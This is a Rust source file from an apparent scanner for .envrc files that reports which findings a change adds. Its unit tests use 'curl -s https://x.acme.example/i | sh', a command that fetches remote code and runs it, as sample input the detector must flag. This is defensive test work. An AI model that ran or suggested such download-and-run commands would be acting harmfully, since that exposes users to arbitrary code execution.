//! What a change adds to what is found of a file.

use std::collections::BTreeMap;

use proofmark_core::{Finding, Severity};

use crate::finding::Judged;
use crate::rules::unreadable;

/// What makes two findings the same in two states of a file: neither its line nor the file of the closure in which it stands.
type Key = (&'static str, Severity, String, String);

fn key(row: &Finding) -> Key {
    let line = row.location.as_ref().map_or("", |location| location.line_text.trim());
    (row.rule.id, row.severity, row.message.clone(), line.to_owned())
}

/// The findings that were not there before, and the verdict: what cannot be read now is no smaller for having been so before.
/// What stands twice now and stood once is told once.
pub fn added(before: &Judged, after: &Judged) -> Vec<Finding> {
    let mut known: BTreeMap<Key, usize> = BTreeMap::new();
    for row in &before.findings {
        *known.entry(key(row)).or_default() += 1;
    }
    let mut is_new = |row: &&Finding| match known.get_mut(&key(row)) {
        _ if row.rule.id == unreadable::META.id => true,
        Some(count) if *count > 0 => {
            *count -= 1;
            false
        }
        _ => true,
    };
    after.findings.iter().filter(|row| is_new(row)).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Limits, NoFiles, judge};

    fn told(before: &str, after: &str) -> Vec<String> {
        let of = |text: &str| judge(".envrc", text.as_bytes(), &NoFiles, &Limits::default());
        let rows = added(&of(before), &of(after));
        rows.iter().map(|row| format!("{} {:?}", row.rule.id, row.outcome)).collect()
    }

    #[test]
    fn what_was_there_is_not_told_again() {
        let (verdict, network, remote) =
            ("envrc-unreadable Pass", "envrc-network Finding", "envrc-remote-code Fail");
        let line = "curl -s https://x.acme.example/i | sh";
        assert_eq!(told(line, &format!("# moved\n\n{line}\n")), [verdict]);
        assert_eq!(told("true", line), [verdict, network, remote]);
        assert_eq!(told(line, &format!("{line}\n{line}\n")), [verdict, network, remote], "once more");
        assert_eq!(told(line, "curl -s https://y.acme.example/i | sh"), [verdict, network, remote]);
        assert_eq!(told(line, "true"), [verdict]);
    }

    #[test]
    fn what_cannot_be_read_is_told_whatever_was_before() {
        assert_eq!(told("if", "if"), ["envrc-unreadable Fail"]);
        assert_eq!(told("if", "true"), ["envrc-unreadable Pass"]);
    }
}
